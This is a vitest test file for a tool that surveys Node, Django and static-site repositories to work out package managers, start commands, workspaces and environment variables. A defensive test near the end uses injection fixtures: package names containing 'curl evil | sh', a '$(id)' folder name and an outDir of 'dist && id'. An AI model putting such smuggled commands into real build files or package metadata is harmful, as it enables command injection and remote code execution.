import { describe, expect, it } from "vitest";
import { sampleApps, surveyOf } from "./sample-apps.fixture.js";
import type { NodeStack, Survey } from "./stack.js";

async function survey(name: string): Promise<Survey> {
  const { files, folder } = sampleApps[name] ?? { files: {} };
  return await surveyOf(files, folder);
}

async function node(files: Record<string, string>): Promise<NodeStack & { readonly advice: readonly string[] }> {
  const { stack, advice } = await surveyOf(files);
  if (stack.kind !== "node") throw new Error(`it is taken for ${stack.kind}`);
  return { ...stack, advice };
}

describe("the survey of a Node app", () => {
  it("finds the package manager, the command, the build, the checks and the health check", async () => {
    const found = await survey("npm and TypeScript");
    expect(found).toMatchObject({
      name: "shop",
      root: ".",
      context: ".",
      database: "postgres",
      healthPath: "/healthz",
      repository: "camille/shop",
      advice: [],
    });
    expect(found.stack).toMatchObject({
      kind: "node",
      manager: "npm",
      nodeMajor: 22,
      manifests: ["package.json", "package-lock.json"],
      output: "dist",
      hasSourceMaps: true,
      start: ["env", "NODE_ENV=production", "node", "dist/server.js"],
      hasMigrations: true,
      hasHoldfast: false,
      checks: [
        { title: "Lint", command: "npm run lint" },
        { title: "Build", command: "npm run build" },
        { title: "Test", command: "npm run test" },
      ],
    });
  });

  it.each([
    [{ "pnpm-lock.yaml": "" }, "pnpm"],
    [{ "yarn.lock": "# yarn lockfile v1" }, "yarn"],
    [{ "yarn.lock": "__metadata:" }, "yarn-berry"],
    [{ "package-lock.json": "{}" }, "npm"],
    [{}, "npm"],
  ])("knows the package manager by its lock file: %j", async (files, manager) => {
    const found = await node({ "package.json": '{"main":"app.js"}', "app.js": "", ...files });
    expect(found.manager).toBe(manager);
    expect(found.isLocked).toBe(Object.keys(files).length > 0);
    expect(found.advice.some((line) => line.includes("no lock file"))).toBe(!found.isLocked);
  });

  it.each([
    ["", 22],
    [">=18", 22],
    [">=24", 24],
    ["^20.11", 20],
    ["20.x", 20],
    [">=18 <21", 18],
  ])("takes of engines %j Node %i", async (range, major) => {
    const engines = range === "" ? {} : { engines: { node: range } };
    expect((await node({ "package.json": JSON.stringify({ main: "app.js", ...engines }), "app.js": "" })).nodeMajor).toBe(major);
  });

  it("takes the command out of npm's hands, and says where it cannot", async () => {
    const withStart = async (start: string): Promise<Awaited<ReturnType<typeof node>>> =>
      await node({ "package.json": JSON.stringify({ scripts: { start }, devDependencies: { tsx: "4" } }), "package-lock.json": "{}" });
    expect((await withStart("next start")).start).toEqual(["node_modules/.bin/next", "start"]);
    expect((await withStart("node --enable-source-maps dist/main.js")).start).toEqual(["node", "--enable-source-maps", "dist/main.js"]);
    const shell = await withStart("npm run migrate && node dist/main.js");
    expect(shell.start).toEqual(["npm", "start"]);
    expect(shell.advice.join()).toContain("signals may not reach the app");
    expect((await withStart("nodemon app.js")).advice.join()).toContain("a tool for development");
    expect((await withStart("tsx app.ts")).advice.join()).toContain("tsx, which is among devDependencies and therefore not in the image");
  });

  it("says that an app does not listen for SIGTERM", async () => {
    const found = await node({ "package.json": '{"main":"app.js"}', "package-lock.json": "{}", "app.js": "listen()" });
    expect(found.advice).toEqual([expect.stringContaining("Nothing in the code listens for SIGTERM")]);
  });

  it("finds the workspace around it, and what of it the app is built with, in the order of need", async () => {
    const found = await survey("a workspace");
    expect(found).toMatchObject({ root: "apps/eu/shop", context: ".", name: "shop" });
    expect(found.stack).toMatchObject({
      workspace: {
        app: { name: "shop", folder: "apps/eu/shop" },
        needs: [
          { name: "words", folder: "packages/words" },
          { name: "pages", folder: "packages/pages" },
        ],
        configs: ["tsconfig.base.json"],
      },
      checks: [
        { title: "Build", command: "npm run build -w shop" },
        { title: "Test", command: "npm run test" },
      ],
    });
    // Read in a package of the workspace that the app needs.
    expect(found.schema.variables).toHaveProperty("LANGUAGE");
  });
});

describe("the survey of a Django project", () => {
  it("finds settings, wsgi, what it writes and what it reads", async () => {
    const found = await survey("Django");
    expect(found).toMatchObject({ database: "postgres", healthPath: "/healthz" });
    expect(found.stack).toMatchObject({
      kind: "django",
      settings: "config.settings.production",
      wsgi: "config.wsgi",
      collectsStatic: true,
      packages: { file: "requirements.txt", installer: "pip", added: [] },
    });
    expect(found.schema.variables).toMatchObject({
      SECRET_KEY: { required: true, secret: true, minLength: 32 },
      DEBUG: { type: "boolean", default: false },
      ALLOWED_HOSTS: { type: "list", default: "localhost" },
      DATABASE_URL: { type: "url", secret: true },
    });
    expect(found.schema.variables["ALLOWED_HOSTS"]).not.toHaveProperty("required");
  });

  it("says of a new project what stands in the way, and adds what the image needs", async () => {
    const { stack, advice, name } = await survey("Django, new, with uv");
    expect(name).toBe("little-shop");
    expect(stack).toMatchObject({
      python: "3.12",
      packages: { file: "uv.lock", installer: "uv", added: ["gunicorn==27.0.1"] },
      collectsStatic: false,
    });
    for (const words of ["DEBUG is on in shop/settings.py", "ALLOWED_HOSTS is empty", "add whitenoise", "has no STATIC_ROOT"]) {
      expect(advice.join("\n")).toContain(words);
    }
  });
});

describe("the survey of pages", () => {
  it("tells pages from apps", async () => {
    expect((await survey("pages")).stack).toEqual({ kind: "static", publish: ".", build: undefined });
    expect((await survey("pages that a build makes")).stack).toMatchObject({ kind: "static", publish: "dist" });
  });
});

describe("the survey", () => {
  it.each([
    [{ "README.md": "" }, "there is no package.json, no manage.py and no index.html"],
    [
      {
        Gemfile: 'gem "rails"',
        "config/application.rb": "",
        "config/database.yml": "production:\n  adapter: sqlite3\n  database: db/production.sqlite3\n",
        "config/environments/production.rb": "",
      },
      "it is an app of rails",
    ],
    [{ "package.json": '{"name":"library"}' }, 'package.json has no script "start"'],
  ])("refuses what it cannot write for, and says what it saw: %j", async (files, reason) => {
    await expect(surveyOf(files)).rejects.toMatchObject({ code: "APP_UNKNOWN", message: expect.stringContaining(reason) as string });
  });

  it("takes nothing into files that would mean something there: names, folders, paths", async () => {
    const workspace = {
      "package.json": '{"workspaces":["packages/*"]}',
      "packages/one/package.json": '{"name":"x; curl evil | sh"}',
      "packages/$(id)/package.json": '{"name":"two"}',
      "packages/app/package.json": '{"name":"app","main":"a.js","dependencies":{"x; curl evil | sh":"*","two":"*"}}',
      "packages/app/a.js": "",
      "packages/app/tsconfig.json": '{"compilerOptions":{"outDir":"dist && id"}}',
    };
    const { stack } = await surveyOf(workspace, "packages/app");
    expect(stack).toMatchObject({ workspace: { needs: [] }, output: undefined });
    await expect(surveyOf({ "a b/package.json": '{"main":"a.js"}', "a b/a.js": "" }, "a b")).rejects.toMatchObject({ code: "APP_UNKNOWN" });
  });

  it("believes what holdfast.yaml says of the variables, rather than what it sees", async () => {
    const files = { "index.js": "process.env.SEEN", "package.json": "{}", "holdfast.yaml": "env: { SAID: { required: true } }" };
    expect(Object.keys((await surveyOf(files)).schema.variables)).toEqual(["SAID"]);
  });
});
